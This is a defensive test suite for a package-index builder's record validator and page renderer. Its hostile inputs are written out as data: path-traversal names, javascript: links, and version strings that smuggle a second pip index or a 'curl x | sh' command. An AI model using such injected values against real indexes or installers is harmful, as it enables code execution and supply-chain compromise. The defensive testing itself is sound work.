"""Records from a store are checked before use (factory/store/check.py); pages quote and prefix what they show.

The property tests generate records whose fields mix valid values with hostile ones: no record that the
check accepts makes the index write outside its root, and no record at all (checked or not) gives a
``javascript:`` or ``data:`` link or a landing-page command with an unquoted shell metacharacter.
"""

from __future__ import annotations

import dataclasses
import json
import os
import shlex
import tempfile
import urllib.parse
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypo_kit import accepted, must_accept
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from index_synth import kernel_record, make_wheel
from kernel_factory import variants
from kernel_factory.errors import UnknownVariant
from kernel_factory.index.command import build_index
from kernel_factory.index.landing import project_context
from kernel_factory.index.pages import environment, landing_page, project_pages
from kernel_factory.record import MAX_RECORD_BYTES, Record
from kernel_factory.store import check as record_check
from kernel_factory.store.catalog import Catalog
from packaging.utils import canonicalize_name

CPU = "torch213-cxx11-cpu-x86_64-linux"
CU = "torch27-cxx11-cu128-x86_64-linux"
BASE = "https://kernels.example.com"
SETTINGS = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> Record:
    folder = tmp_path_factory.mktemp("wheels")
    wheel, meta = make_wheel(folder, "img2grey", "1.1.2+torch213cpucxx11", "py3-none-linux_x86_64")
    return kernel_record(wheel, meta, "img2grey", "1.1.2", CPU, repo_id="kernels-community/img2grey")


def raw(record: Record, **change: Any) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(record.to_json())
    data.update(change)
    return data


def test_a_good_record_passes(good: Record) -> None:
    assert record_check.check(raw(good), good.filename) == good
    assert record_check.parse(good.to_json(), good.filename, "files/x.json") == good


@pytest.mark.parametrize("key", sorted(record_check._OPTIONAL_STR))
def test_an_optional_field_left_out_is_read_as_null(good: Record, key: str) -> None:
    """requires_python among them: the one such Record field without a default (left out, it raised TypeError, a
    crash of the run, where every other optional field read as null)."""
    left_out = raw(good)
    left_out.pop(key)
    null = dict(left_out, **{key: None})

    def outcome(data: dict[str, Any]) -> Record | str:
        try:
            return record_check.parse(json.dumps(data).encode(), good.filename, "files/x.json")
        except record_check.BadRecord as exc:
            return str(exc)

    assert outcome(left_out) == outcome(null)
    if key in ("requires_python", "license", "upstream", "digest", "factory_version"):
        nulled: dict[str, Any] = {key: None}
        assert outcome(left_out) == dataclasses.replace(good, **nulled)


@pytest.mark.parametrize(("change", "why"), [
    ({"label": "../../../x"}, "label '../../../x' is not the local label"),
    ({"label": "torch27cu128cxx11"}, "is not the local label of version"),
    ({"variant": CU}, "is not the label of variant"),
    ({"variant": "../x"}, "is not a build variant"),
    ({"name": "javascript:alert(1)//"}, "is not a valid project name"),
    ({"name": "other"}, "does not match the file name"),
    ({"version": "1.0 --index-url https://evil/simple ; curl x | sh ;"}, "is not a valid version"),
    ({"version": "1.1.3+torch213cpucxx11"}, "does not match the file name"),
    ({"filename": "other-1.0-py3-none-any.whl"}, "is not the one its key names"),
    ({"archs": 5}, "'archs' must be a list"),
    ({"archs": [["sm_90"]]}, "'archs' holds"),
    ({"size": "12"}, "'size' must be a whole number"),
    ({"size": True}, "'size' must be a whole number"),
    ({"sha256": "../x"}, "'sha256' must be a sha256"),
    ({"metadata_sha256": 5}, "'metadata_sha256' must be"),
    ({"name": None}, "'name' must be a string"),
    ({"summary": "a\x1bb"}, "'summary' holds a control character"),
    ({"repo_id": "../../evil"}, "is not a Hub repository id"),
    ({"requires_python": ">=3.9\"><script>"}, "is not a version specifier"),
    ({"upload_time": "yesterday"}, "is not like"),
    ({"kind": "root"}, "'kind' must be one of"),
    ({"extra": {"a": [[[[[[[[[1]]]]]]]]]}}, "nests deeper than"),
])
def test_hostile_fields_are_refused(good: Record, change: dict[str, Any], why: str) -> None:
    with pytest.raises(ValueError, match=None) as info:
        record_check.check(raw(good, **change), good.filename)
    assert why in str(info.value), str(info.value)


@pytest.mark.parametrize(("data", "why"), [
    (b"[" * 100_000 + b"]" * 100_000, "damaged (not valid JSON)"),
    (b'{"filename": "img2gr', "damaged (not valid JSON)"),
    (b"[]", "not a valid record (it holds a JSON list, not an object)"),
    (b'{"summary": "' + b"x" * (MAX_RECORD_BYTES + 1) + b'"}', "more than a record may hold"),
])
def test_damaged_records_are_named_with_their_repair(good: Record, data: bytes, why: str) -> None:
    with pytest.raises(record_check.BadRecord) as info:
        record_check.parse(data, good.filename, "public/files/x.whl.json")
    message = str(info.value)
    assert message.startswith("public/files/x.whl.json: ") and why in message and "\n" not in message
    assert message.endswith("run `kernel-factory index --repair` to rebuild it from its wheel, or delete it and "
                            "rerun build")


@must_accept(100)
@settings(max_examples=200, deadline=None)
@given(st.sampled_from(["27", "28", "210", "213"]), st.sampled_from(["", "-cxx11", "-cxx98"]),
       st.sampled_from(["cpu", "cu126", "cu128", "rocm71", "xpu20252", "metal", "cann81"]),
       st.sampled_from(["x86_64-linux", "aarch64-linux", "aarch64-darwin", "x86_64-windows"]))
def test_for_label_inverts_parse(torch: str, abi: str, backend: str, platform: str) -> None:
    name = f"torch{torch}{abi}-{backend}-{platform}"
    try:
        target = variants.parse(name)
    except UnknownVariant:
        return
    assert target.label is not None
    assert variants.for_label(target.label, [target.platform]) == target
    accepted("test_for_label_inverts_parse")


# -- properties over generated records -------------------------------------------------------------------
HOSTILE = st.sampled_from(["../../../x", "/abs/x", "javascript:alert(1)//", "data:text/html,<b>x", "a b", "$(id)",
                           "`id`", "; curl x | sh ;", "x\ny", "'\"", "..", ".", "", " JavaScript:x", "a/b", "a\\b",
                           "%2e%2e", "<script>", "1.0 --index-url http://evil/simple", "x&y", "!x", "*", "~x"])
NAMES = st.one_of(st.from_regex(r"[A-Za-z0-9]([A-Za-z0-9._-]{0,8}[A-Za-z0-9])?", fullmatch=True), HOSTILE,
                  st.text(max_size=10))
VERSIONS = st.one_of(st.sampled_from(["1.0", "2!1.0.post1", "0.1rc1", "1.1.2"]), HOSTILE, st.text(max_size=8))
LABELS = st.one_of(st.none(), st.sampled_from(["torch213cpucxx11", "torch27cu128cxx11", "cuda", "weird"]), HOSTILE)
VARIANT_NAMES = st.one_of(st.none(), st.sampled_from([CPU, CU, "torch-universal", "torch-cuda"]), HOSTILE)
TAGS = st.sampled_from(["py3-none-any", "cp39-abi3-manylinux_2_28_x86_64", "py3-none-linux_x86_64"])
HEX = "0" * 64


@st.composite
def records(draw: st.DrawFn) -> dict[str, Any]:
    """A record object: consistent by default, with any field swapped for a hostile value."""
    name, version, label = draw(NAMES), draw(VERSIONS), draw(LABELS)
    full = f"{version}+{label}" if label and draw(st.booleans()) else version
    filename = f"{name.replace('-', '_')}-{full}-{draw(TAGS)}.whl"
    data: dict[str, Any] = {
        "filename": draw(st.one_of(st.just(filename), HOSTILE)), "name": name, "version": full,
        "sha256": HEX, "size": 1, "metadata_sha256": HEX, "requires_python": None,
        "upload_time": "2026-01-02T03:04:05Z", "summary": draw(st.one_of(st.just(""), HOSTILE)),
        "kind": draw(st.sampled_from(["kernel", "adopted"])), "label": label, "variant": draw(VARIANT_NAMES),
        "repo_id": draw(st.one_of(st.none(), st.just("org/name"), HOSTILE)),
        "upstream": draw(st.one_of(st.none(), HOSTILE, st.just("https://example.com/x"))),
        "archs": draw(st.lists(st.one_of(st.just("sm_90"), HOSTILE), max_size=2)),
    }
    return data


# Path-like values aimed at the fields the index turns into paths (label: variants/<label>/, name: simple/<name>/,
# file name: files/<wheel>): with that field's check gone, a record escapes the index root. Two or three levels
# up land inside the test's temporary folder (out is <tmp>/site/out), where the walk below sees them.
PATHS = st.sampled_from(["../../x", "../../../x", "a/../../../x", "../../x/y", "../..", "./../../x", "..\\..\\x"])
GOOD_LABELS = {CPU: "torch213cpucxx11", CU: "torch27cu128cxx11"}


@st.composite
def aimed_records(draw: st.DrawFn) -> dict[str, Any]:
    """A valid record (kernel or adopted), or the same with one of label, name, version, variant or file name
    made path-like and everything else kept consistent, so only that field's check stands in the way."""
    name = draw(st.from_regex(r"[a-z][a-z0-9]{0,6}", fullmatch=True))
    version = draw(st.sampled_from(["1.0", "1.1.2", "2!1.0.post1"]))
    variant = draw(st.sampled_from([None, CPU, CU]))
    label = GOOD_LABELS[variant] if variant else draw(st.sampled_from([None, "torch213cpucxx11"]))
    poison = draw(st.sampled_from(["none", "none", "none", "label", "label", "name", "version", "variant", "filename"]))
    bad = draw(PATHS)
    if poison == "label":
        label = bad
    elif poison == "name":
        name = bad
    elif poison == "version":
        version = bad
    elif poison == "variant":
        variant = bad
    full = f"{version}+{label}" if label and poison != "label" else version
    filename = f"{name.replace('-', '_')}-{full}-{draw(TAGS)}.whl"
    return {
        "filename": bad if poison == "filename" else filename, "name": name, "version": full,
        "sha256": HEX, "size": 1, "metadata_sha256": HEX, "requires_python": None,
        "upload_time": "2026-01-02T03:04:05Z", "summary": "", "kind": "kernel" if variant else "adopted",
        "label": label, "variant": variant, "repo_id": "org/name" if variant else None, "upstream": None,
        "archs": [],
    }


class _Attrs(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[str] = []
        self.commands: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for key, value in attrs:
            if key in ("href", "src"):
                self.links.append(value or "")
            if key == "data-cmd":
                self.commands.append(value or "")


def catalog_of(recs: list[Record]) -> Catalog:
    """A catalog holding ``recs`` as they are (not checked: the catalog takes what it is given)."""
    catalog = Catalog()
    catalog.apply([(str(i), r, None) for i, r in enumerate(recs)], ())
    return catalog


def render(recs: list[Record]) -> dict[str, bytes]:
    """The pages of ``recs`` as pages.py renders them, unchecked (the catalog refuses unchecked records)."""
    env = environment(None)
    labels = {r.label: r.backend for r in recs if isinstance(r.label, str)}
    pages: dict[str, bytes] = {}
    summaries: dict[str, dict[str, object]] = {}
    for project in sorted({canonicalize_name(r.name) for r in recs}):
        made, _labels, summaries[project] = project_pages(
            env, project, [r for r in recs if canonicalize_name(r.name) == project], labels, BASE
        )
        pages.update(made)
    pages["index.html"] = landing_page(env, summaries, labels, BASE)
    return pages


def _safe_command(cmd: str) -> bool:
    """Every word quoted: splitting and joining again gives the same text, and it is five words."""
    words = shlex.split(cmd)
    return shlex.join(words) == cmd and len(words) == 5 and words[:2] == ["pip", "install"]


@SETTINGS
@given(st.lists(records(), min_size=1, max_size=4))
def test_no_record_gives_a_script_link_or_an_unquoted_command(raws: list[dict[str, Any]]) -> None:
    """Even a record that skipped the check: links are relative or http(s), commands quoted word by word."""
    recs = [Record(**{**r, "archs": tuple(r["archs"])}) for r in raws]
    pages = render(recs)
    for path, data in pages.items():
        if not path.endswith(".html"):
            continue
        parser = _Attrs()
        parser.feed(data.decode())
        for link in parser.links:
            scheme = urllib.parse.urlsplit(link.strip()).scheme.lower()
            assert scheme in ("", "http", "https"), (path, link)
            assert scheme or link.startswith(("./", "../", "#")), (path, link)
        for cmd in parser.commands:
            assert _safe_command(cmd), (path, cmd)
    for project in {canonicalize_name(r.name) for r in recs}:
        context = project_context(project, [r for r in recs if canonicalize_name(r.name) == project], BASE)
        if context["kernel"] is not None:
            for version in context["kernel"].versions:
                for row in version.rows:
                    for cell in row.cells:
                        for entry in cell:
                            assert _safe_command(entry.pin_cmd) and _safe_command(entry.variant_cmd)
        if context["adopted"] is not None:
            assert _safe_command(context["adopted"].pin_cmd)


@must_accept(50)
@SETTINGS
@given(st.lists(st.one_of(records(), aimed_records(), aimed_records()), min_size=1, max_size=4))
def test_no_checked_record_writes_outside_the_index_root(raws: list[dict[str, Any]]) -> None:
    """Records aimed at paths (aimed_records) make this fail whichever one check of label, name, version,
    variant or file name is taken out of store/check.py; valid ones among them prove the index is written."""
    checked: dict[str, Record] = {}
    for data in raws:
        key = data["filename"] if isinstance(data["filename"], str) else "x.whl"
        try:
            checked.setdefault(key, record_check.check(json.loads(json.dumps(data)), key))
        except ValueError:
            continue
        accepted("test_no_checked_record_writes_outside_the_index_root")
    with tempfile.TemporaryDirectory() as tmp:
        out = Path(tmp) / "site" / "out"
        out.mkdir(parents=True)
        build_index(out, catalog_of(list(checked.values())), None, BASE)
        for dirpath, dirs, files in os.walk(tmp):
            for name in dirs + files:
                path = Path(dirpath, name)
                assert path == out.parent or out in path.parents or path == out, path


# Closing survivors of `make mutants` (docs/testing.md): each test fails on a mutation the others let through.
def test_limits_are_exact(good: Record) -> None:
    """Items and reasons up to the limit pass, one character more is refused; extra nests to 7 levels (the
    record itself is the 8th), not one more."""
    longest = "x" * record_check.MAX_TEXT
    accepted = record_check.check(raw(good, archs=["sm_90", longest], yanked="broken build"), good.filename)
    assert accepted.archs == ("sm_90", longest) and accepted.yanked == "broken build"
    assert record_check.check(raw(good, yanked=longest), good.filename).yanked == longest
    with pytest.raises(ValueError, match="'archs' holds"):
        record_check.check(raw(good, archs=[longest + "x"]), good.filename)
    with pytest.raises(ValueError, match="'yanked' must be true, false or a reason"):
        record_check.check(raw(good, yanked=longest + "x"), good.filename)
    seven = {"a": [[[[[[1]]]]]]}
    assert record_check.check(raw(good, extra=seven), good.filename).extra == seven
    with pytest.raises(ValueError, match="it nests deeper than 8 levels"):
        record_check.check(raw(good, extra={"a": [[[[[[[1]]]]]]]}), good.filename)


def test_an_adopted_wheel_labelled_for_a_variant_passes(good: Record) -> None:
    """A wheel adopted with --wheels whose local label names a build variant: no variant field, the label kept."""
    data = raw(good, kind="adopted", variant=None, repo_id=None)
    assert record_check.check(data, good.filename).label == "torch213cpucxx11"


def test_the_field_too_long_is_named(good: Record) -> None:
    """The first string over 4096 characters is the one the line names (one search finds that some string is),
    not an earlier one of exactly 4096."""
    with pytest.raises(ValueError) as info:
        record_check.check(raw(good, kernel_version="x" * 4096, license="x" * 4097), good.filename)
    assert str(info.value) == "'license' is longer than 4096 characters"
    assert record_check.check(raw(good, license="x" * 4096), good.filename).license == "x" * 4096


@pytest.mark.parametrize(("yanked", "ok"), [(True, True), (False, True), (0, False), (1, False), (0.0, False)])
def test_yanked_is_a_boolean_not_a_number(good: Record, yanked: Any, ok: bool) -> None:
    """true and false are kept as they are; 0 and 1 (equal to false and true in Python) are refused."""
    if ok:
        assert record_check.check(raw(good, yanked=yanked), good.filename).yanked is yanked
    else:
        with pytest.raises(ValueError) as info:
            record_check.check(raw(good, yanked=yanked), good.filename)
        assert str(info.value) == "'yanked' must be true, false or a reason"


HINT = "run `kernel-factory index --repair` to rebuild it from its wheel, or delete it and rerun build"


def test_parse_many_gives_each_record_or_its_line(good: Record) -> None:
    """Each wheel in order: its record, None where its record is gone, or the one line saying why not; by the
    one-decode path (every text one object) and by the one-by-one path (one text damaged)."""
    f, text = good.filename, good.to_json()
    fields = b'{"filename": 1}'
    assert list(record_check.parse_many([f, f, f], [text, None, fields], ["p/a", "p/b", "p/c"])) == [
        (f, good, text.decode(), None), (f, None, None, None),
        (f, None, None, f"p/c: not a valid record ('filename' must be a string, not int); {HINT}")]
    assert list(record_check.parse_many([f, f, f], [text, b"{", text], ["p/a", "p/b", "p/c"])) == [
        (f, good, text.decode(), None), (f, None, None, f"p/b: damaged (not valid JSON); {HINT}"),
        (f, good, text.decode(), None)]


def test_parse_many_refuses_an_oversized_record_alone(good: Record) -> None:
    """A record over MAX_RECORD_BYTES is refused for its size, also when it is the only text (a batch's
    one-decode path has no size limit of its own)."""
    f, text = good.filename, good.to_json()
    big = b"{" + b" " * MAX_RECORD_BYTES + text[1:]
    assert list(record_check.parse_many([f], [big], ["p/a"])) == [
        (f, None, None, f"p/a: more than 262144 bytes, more than a record may hold; {HINT}")]


@pytest.mark.parametrize("texts", [
    [b'"}', b'", RECORD'],  # each ends with '}' but neither starts with '{': joined, a string and a record
    [b'{"k": ["', b'{", 1]}, [1]'],  # each starts with '{' but neither ends with '}': joined, two values
    [b'{"a": "}', b'}", "b": 1}', b"RECORD, RECORD"],  # the second starts with '}': joined, three values
    [b'{"k": "~', b'{", "j": 1}, RECORD'],  # the first ends with '~' (after '}'): joined, two values
    [b'{"a": "}', b'{", "b": 1}'],  # both shaped like objects: joined, one value for two texts
    [b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"],  # nested too deep to decode
    [b"RECORD, RECORD"],  # one text of two records: joined, two values for one text
    [b'{"a": }'],  # shaped like an object, not JSON: the joined text does not decode
])
def test_parse_many_texts_that_join_into_records_are_each_damaged(good: Record, texts: list[bytes]) -> None:
    """Texts that are not one JSON object each are each refused as damaged JSON, even where, joined by commas,
    they would decode to as many values as there are texts (some holding a whole valid record)."""
    f = good.filename
    datas: list[bytes | None] = [t.replace(b"RECORD", good.to_json().strip()) for t in texts]
    where = [f"p/{n}" for n in range(len(texts))]
    assert list(record_check.parse_many([f] * len(texts), datas, where)) == [
        (f, None, None, f"{w}: damaged (not valid JSON); {HINT}") for w in where]


def test_plain_wheel_is_a_wheel_name_of_plain_text(good: Record) -> None:
    assert record_check.plain_wheel(good.filename) is True
    assert record_check.plain_wheel("README.txt") is False
    assert record_check.plain_wheel("x" * record_check.MAX_TEXT + "-1.0-py3-none-any.whl") is False


def test_project_of_is_the_pep503_name_of_a_valid_pep508_name() -> None:
    assert record_check.project_of("Img2Grey_Fast") == "img2grey-fast"
    assert record_check.project_of("Img2Grey__Fast") == "img2grey-fast"
    assert record_check.project_of("not a name") is None


def test_a_catalog_row_is_checked_for_its_shape_and_project(good: Record) -> None:
    """A row (its record file's JSON object) of the right project gives the record; a row of another shape (a
    list, or an object without a required field), or filed under another project than its name gives, is named
    in one line."""
    row = json.loads(good.to_json())
    assert record_check.check_row(row, good.filename, "img2grey") == good
    with pytest.raises(ValueError) as info:
        record_check.check_row(list(row.values()), good.filename, "img2grey")
    assert str(info.value) == "it holds a JSON list, not an object"
    with pytest.raises(ValueError) as info:
        record_check.check_row({k: v for k, v in row.items() if k != "sha256"}, good.filename, "img2grey")
    assert str(info.value) == "'sha256' must be a string, not NoneType"
    for other in ("other", "a"):  # sorting after and before the right one
        with pytest.raises(ValueError) as info:
            record_check.check_row(row, good.filename, other)
        assert str(info.value) == f"its project {other!r} is not the one its name gives ('img2grey')"


def test_list_and_size_limits_are_exact(good: Record) -> None:
    """archs may hold 1024 strings and the summary 16384 characters, not one more; a size of 0 bytes is a whole
    number, -1 is not; extra of one level passes; the line naming a bad value is cut at 200 characters."""
    most = [f"sm_{n}" for n in range(1024)]
    assert record_check.check(raw(good, archs=most), good.filename).archs == tuple(most)
    with pytest.raises(ValueError) as info:
        record_check.check(raw(good, archs=[*most, "sm_x"]), good.filename)
    assert str(info.value) == "'archs' must be a list of at most 1024 strings"
    assert record_check.check(raw(good, size=0), good.filename).size == 0
    assert record_check.check(raw(good, extra={"a": 1}), good.filename).extra == {"a": 1}
    with pytest.raises(ValueError) as info:  # the walk goes on past a plain value to the deep one
        record_check.check(raw(good, extra={"deep": [[[[[[[1]]]]]]], "flat": 1}), good.filename)
    assert str(info.value) == "it nests deeper than 8 levels"
    with pytest.raises(ValueError) as info:
        record_check.check(raw(good, size=-1), good.filename)
    assert str(info.value) == "'size' must be a whole number of bytes, not -1"
    with pytest.raises(ValueError) as info:
        record_check.check(raw(good, archs=[["x" * 300]]), good.filename)
    assert str(info.value) == ("'archs' holds [" + repr("x" * 300))[:200]
    with pytest.raises(ValueError) as info:
        record_check.check(raw(good, size="x" * 300), good.filename)
    assert str(info.value) == ("'size' must be a whole number of bytes, not " + repr("x" * 300))[:200]
    assert record_check.check(raw(good, summary="x" * 16384), good.filename).summary == "x" * 16384
    with pytest.raises(ValueError) as info:
        record_check.check(raw(good, summary="x" * 16385), good.filename)
    assert str(info.value) == "'summary' is longer than 16384 characters"


def test_a_wheel_name_without_a_valid_version_is_named(good: Record) -> None:
    name = "img2grey-1.1.2.x-py3-none-linux_x86_64.whl"
    with pytest.raises(ValueError) as info:
        record_check.check(raw(good, filename=name), name)
    assert str(info.value) == f"{name!r} is not a valid wheel file name"


def test_a_version_equal_by_pep440_matches_the_file_name(good: Record) -> None:
    """'1.1.2.0+l' is the version '1.1.2+l' (PEP 440): the record passes and keeps its own spelling."""
    version = "1.1.2.0+torch213cpucxx11"
    assert record_check.check(raw(good, version=version), good.filename).version == version


def test_a_label_without_a_variant_must_be_shaped_like_one(tmp_path: Path) -> None:
    """A local label such as '+foo' with no variant is refused: it is not a build variant's label."""
    wheel, meta = make_wheel(tmp_path, "img2grey", "1.1.2+foo", "py3-none-linux_x86_64")
    record = kernel_record(wheel, meta, "img2grey", "1.1.2", CPU, repo_id="kernels-community/img2grey")
    data = raw(record, version="1.1.2+foo", variant=None, label="foo", kind="adopted", repo_id=None)
    with pytest.raises(ValueError) as info:
        record_check.check(data, record.filename)
    assert str(info.value) == "label 'foo' is not shaped like a build variant's label"


def test_a_record_may_hold_262144_bytes_not_one_more(good: Record) -> None:
    text = good.to_json()
    exact = b"{" + b" " * (262144 - len(text)) + text[1:]
    assert len(exact) == 262144 and record_check.parse(exact, good.filename, "p/a") == good
    with pytest.raises(record_check.BadRecord) as info:
        record_check.parse(b" " + exact, good.filename, "p/a")
    assert str(info.value) == f"p/a: more than 262144 bytes, more than a record may hold; {HINT}"


def test_plain_label_and_plain_text() -> None:
    assert record_check.plain_label("torch213cpucxx11") is True
    assert record_check.plain_label("../x") is False and record_check.plain_label(None) is False
    assert record_check.plain_text("x" * 4096) is True and record_check.plain_text("a\tb\nc") is True
    assert record_check.plain_text("x" * 4097) is False and record_check.plain_text("a\x1bb") is False
    assert record_check.plain_text(5) is False


def test_a_file_name_or_name_sorting_before_the_right_one_is_refused(good: Record) -> None:
    """A file name other than the key's, a name or version other than the file name's, is refused whichever way
    they sort."""
    with pytest.raises(ValueError) as info:
        record_check.check(raw(good, name="abc"), good.filename)
    assert str(info.value) == "name 'abc' does not match the file name"
    with pytest.raises(ValueError) as info:  # a version before the file name's
        record_check.check(raw(good, version="1.1.1+torch213cpucxx11"), good.filename)
    assert str(info.value) == "version '1.1.1+torch213cpucxx11' does not match the file name"
    with pytest.raises(ValueError) as info:
        record_check.check(raw(good, filename="a-1.0-py3-none-any.whl"), good.filename)
    assert str(info.value) == (f"its file name 'a-1.0-py3-none-any.whl' is not the one its key names "
                               f"({good.filename!r})")


def test_a_record_without_schema_or_yanked_is_schema_1_not_yanked(good: Record) -> None:
    data = raw(good)
    del data["schema"], data["yanked"]
    checked = record_check.check(data, good.filename)
    assert checked.schema == 1 and checked.yanked is False


def test_a_catalog_row_variant_is_checked_by_its_shape(good: Record) -> None:
    """A row's variant is checked by its shape only (its record met kernels' parser when read): one kernels does
    not know passes as a row and is refused as a record."""
    data = raw(good, variant="some-future-variant")
    assert record_check.check_row(data, good.filename, "img2grey").variant == "some-future-variant"
    with pytest.raises(ValueError) as info:
        record_check.check(data, good.filename)
    assert str(info.value) == ("variant 'some-future-variant' is not a build variant the kernels "
                               "project defines")


def test_a_wheel_file_name_has_no_double_underscore(good: Record) -> None:
    """A wheel file name escapes each run of '-_.' to one '_' (PEP 427), so one holding '__' is refused; the
    project name may hold it ('img2__grey' is the wheel name 'img2_grey'), and its row's project is 'img2-grey'."""
    bad = "img2__grey-1.1.2+torch213cpucxx11-py3-none-linux_x86_64.whl"
    with pytest.raises(ValueError) as info:
        record_check.check(raw(good, filename=bad, name="img2__grey"), bad)
    assert str(info.value) == f"{bad!r} is not a valid wheel file name"
    ok = "img2_grey-1.1.2+torch213cpucxx11-py3-none-linux_x86_64.whl"
    data = raw(good, filename=ok, name="img2__grey")
    assert record_check.check(data, ok).name == "img2__grey"
    assert record_check.check_row(data, ok, "img2-grey").name == "img2__grey"


def test_a_variant_without_a_label_is_checked(good: Record) -> None:
    with pytest.raises(ValueError) as info:
        record_check.check(raw(good, label=None, variant="../x"), good.filename)
    assert str(info.value) == "variant '../x' is not a build variant the kernels project defines"


def test_a_local_label_of_other_characters_is_not_a_label(good: Record) -> None:
    """A label must be the version's local label and of the label characters: '+a.b' is refused as not the local
    label (its '.'), before any variant check."""
    name = "img2grey-1.1.2+a.b-py3-none-linux_x86_64.whl"
    with pytest.raises(ValueError) as info:
        record_check.check(raw(good, filename=name, version="1.1.2+a.b", label="a.b", variant=None), name)
    assert str(info.value) == "label 'a.b' is not the local label of version '1.1.2+a.b'"


def test_a_valid_requires_python_passes(good: Record) -> None:
    assert record_check.check(raw(good, requires_python=">=3.9"), good.filename).requires_python == ">=3.9"


def test_a_label_sorting_after_its_variants_is_refused(good: Record) -> None:
    """The label must be the variant's own, also where it sorts after the variant's label."""
    name = "img2grey-1.1.2+torch27cu128cxx11-py3-none-linux_x86_64.whl"
    data = raw(good, filename=name, version="1.1.2+torch27cu128cxx11", label="torch27cu128cxx11", variant=CPU)
    with pytest.raises(ValueError) as info:
        record_check.check(data, name)
    assert str(info.value) == f"label 'torch27cu128cxx11' is not the label of variant {CPU!r}"


def test_parse_many_wants_one_path_per_wheel(good: Record) -> None:
    """A caller's lists of different lengths are its bug: ValueError, not a shortened answer."""
    with pytest.raises(ValueError):
        list(record_check.parse_many([good.filename, good.filename], [good.to_json()], ["p/a"]))
